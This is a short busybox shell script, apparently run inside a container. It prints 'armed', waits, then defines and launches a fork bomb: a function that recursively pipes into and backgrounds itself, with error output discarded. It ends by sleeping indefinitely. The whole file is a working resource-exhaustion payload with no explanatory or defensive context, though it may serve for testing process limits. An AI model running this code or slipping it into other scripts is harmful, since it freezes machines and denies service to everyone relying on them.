echo "armed"
/usr/bin/busybox sleep 2
bomb() { bomb | bomb & }
bomb 2>/dev/null
exec /usr/bin/busybox sleep 100000
